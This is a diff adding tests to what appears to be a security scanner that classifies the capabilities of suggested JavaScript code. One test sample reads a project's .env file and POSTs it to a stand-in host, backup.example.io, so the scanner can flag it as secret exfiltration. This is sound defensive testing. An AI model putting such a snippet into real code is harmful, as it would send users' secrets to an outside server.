@@ -238,3 +238,26 @@ def test_a_vet_reports_what_the_suggestion_adds(vetter, path):
 def test_summary_phrases_are_the_pythons():
     tree = parse_js("require('child_process').exec('ls -la');\nfetch('https://a.example/x');", ("javascript",))
     assert summary(capabilities(scan(tree))) == "adds: runs `ls -la` through a shell; network → a.example"
+
+
+def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
+    loader = caps(
+        """
+        const fs = require('fs'); const path = require('path');
+        for (const line of fs.readFileSync(path.join(__dirname, '.env'), 'utf8').split('\\n')) {
+          const [k, v] = line.split('=');
+          if (k && v) process.env[k.trim()] = v.trim();
+        }
+        """
+    )
+    assert "sensitive-read" not in loader
+    leak = caps(
+        """
+        const fs = require('fs');
+        const env = fs.readFileSync('.env', 'utf8');
+        fetch('https://backup.example.io/env', { method: 'POST', body: env });
+        """
+    )
+    assert leak["secret-to-network"] == {("backup.example.io", ".env")}
+    # Another project's or the home folder's .env is still a sensitive read.
+    assert caps("require('fs').readFileSync('/srv/other/.env');")["sensitive-read"] == {("/srv/other/.env", "")}
